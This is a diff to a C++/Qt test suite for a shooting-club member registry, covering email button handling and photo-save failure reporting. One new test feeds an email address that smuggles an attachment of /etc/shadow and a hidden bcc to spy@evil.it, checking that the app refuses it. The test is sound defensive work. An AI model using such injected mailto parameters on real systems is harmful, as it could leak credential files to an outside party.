@@ -8,6 +8,7 @@
 #include "members/PhotoFrame.h"
 #include "members/TSchedaIscritto.h"
 #include "members/TfrmTiratori.h"
+#include "storage/AtomicFile.h"
 
 #include <QApplication>
 #include <QDir>
@@ -349,7 +350,21 @@ private Q_SLOTS:
         CardFixture f;
         f.field("txtEmail")->setText(QStringLiteral(" mario@example.it "));
         f.click("btnEmail");
-        QCOMPARE(f.fake->opened, QStringList{"\"mailto:mario@example.it\""});
+        QCOMPARE(f.fake->opened, QStringList{"mailto:mario@example.it"});
+        QVERIFY(f.fake->messages.isEmpty());
+    }
+
+    // A record from a shared archive must not attach files or add hidden recipients.
+    void emailWithSmuggledParametersIsRefused() {
+        CardFixture f;
+        f.field("txtEmail")->setText(QStringLiteral("x@y.it?attach=/etc/shadow&bcc=spy@evil.it"));
+        f.click("btnEmail");
+        QVERIFY(f.fake->opened.isEmpty());
+        QCOMPARE(f.fake->messages,
+                 (QList<FakePlatform::Shown>{
+                     {Platform::Box::Warning,
+                      QStringLiteral("Attenzione: l'indirizzo e-mail indicato non è valido.")}}));
+        QCOMPARE(f.card.focusWidget(), f.field("txtEmail"));
     }
 };
 
@@ -411,17 +426,30 @@ private Q_SLOTS:
         QVERIFY(!isRed(QImage(file)));
     }
 
-    void photoThatCannotBeSavedShowsTheBlankPicture() {
+    // The record is saved; the photo that could not be written stays on screen for the next save,
+    // and the photo file already there stays as it was.
+    void photoThatCannotBeSavedIsReportedAndKept() {
         CardFixture f;
-        f.folder.write("Anagrafica", "a file where the photo folder should be");
+        f.seed({"Alfa"});
+        QVERIFY(MemberPhoto::save(1, filled(QSize(300, 400), Qt::green)));
+        const QByteArray before = f.folder.read("Anagrafica/Scheda_Iscritto_1.jpg");
+        f.click("cmdPrimo");
         f.card.findChild<PhotoFrame*>("imgFoto")->setImage(filled(QSize(300, 400), Qt::red));
-        f.fillMandatory();
-        f.click("cmdSalva");
-        QCOMPARE(f.position(), QStringLiteral("1"));
-        QCOMPARE(f.card.findChild<PhotoFrame*>("imgFoto")->image(), MemberPhoto::blank());
-        QCOMPARE(f.takeMessages(),
-                 (QList<FakePlatform::Shown>{
-                     {Box::Information, "La scheda corrente è stata inserita in archivio."}}));
+        f.takeMessages();
+        {
+            const AtomicFile::Fault fault(AtomicFile::Step::Flush);
+            f.click("cmdSalva");
+        }
+        QVERIFY(isRed(f.card.findChild<PhotoFrame*>("imgFoto")->image()));
+        QCOMPARE(f.folder.read("Anagrafica/Scheda_Iscritto_1.jpg"), before);
+        QCOMPARE(
+            f.takeMessages(),
+            (QList<FakePlatform::Shown>{
+                {Box::Warning, "Attenzione: il sistema non permette di salvare la foto dell'iscritto.\n\r\n\r"
+                               "Accertarsi che il disco non sia pieno e di possedere i privilegi di "
+                               "scrittura nella cartella di installazione del programma."},
+                {Box::Information, "Le modifiche apportate alla scheda corrente sono state salvate in "
+                                   "archivio."}}));
     }
 
     void duplicateStartsWithoutPhotoAndAttachments() {
